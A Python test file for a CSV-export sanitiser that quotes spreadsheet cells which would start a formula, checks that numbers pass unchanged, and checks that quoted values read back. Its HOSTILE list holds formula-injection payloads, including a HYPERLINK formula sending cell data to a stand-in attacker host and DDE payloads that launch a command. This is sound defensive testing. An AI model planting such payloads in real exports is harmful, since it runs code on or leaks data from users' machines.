"""Cells of the CSV files people open in a spreadsheet: text that would start a formula is
neutralised, numbers stay numbers, and our own import reads the neutralised text back."""

from __future__ import annotations

import pytest

from core.spreadsheets import restore_cell, safe_cell, safe_row

# Formula injection as documented by OWASP ("CSV Injection"): what a spreadsheet would run,
# follow or evaluate when the cell is opened.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+33 6 12 34 56 78",
    "-",
    "=",
    "\t=1+1",
    "\r=1+1",
    "- Accès libre aux ordinateurs",
    "@marie",
    # Already quoted by hand: quoted once more, so that reading it back gives it unchanged.
    "'=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_start_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert restore_cell(safe_cell(value)) == value


@pytest.mark.parametrize(
    "value",
    [
        "Médiathèque de Gourdon",
        "",
        " =1+1",  # a leading space: text to every spreadsheet
        "'apostrophe",
        "12",
        "66,7",
        "04/12/2026",
        "a=1",
        "Ateliers + jeux",
    ],
)
def test_plain_text_and_numbers_are_written_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["+33563000000", "+590590123456", "-12", "-12,5", "+4.25", "-0"])
def test_a_signed_number_stays_a_number(value: str) -> None:
    # A spreadsheet reads it as a number and runs nothing; phone numbers in the national
    # schema's format (+33…) must stay as they are to match its pattern.
    assert safe_cell(value) == value


def test_values_that_are_not_text_are_left_alone() -> None:
    assert safe_cell(None) is None
    assert safe_cell(-3) == -3
    assert safe_cell(-1.5) == -1.5
    assert safe_row(["=1+1", 4, "Gourdon", None]) == ["'=1+1", 4, "Gourdon", None]


def test_a_limited_field_stays_within_its_limit() -> None:
    value = "-" + "a" * 279
    quoted = safe_cell(value, max_length=280)
    assert len(quoted) == 280
    assert quoted.startswith("'-aaa") and quoted.endswith("a…")
    assert safe_cell("-" + "a" * 278, max_length=280) == "'-" + "a" * 278
    assert safe_cell("=" * 300, max_length=None) == "'" + "=" * 300


def test_restore_leaves_other_text_alone() -> None:
    for value in ["Médiathèque", "'apostrophe", "'", "", "l'atelier", "'Gourdon"]:
        assert restore_cell(value) == value
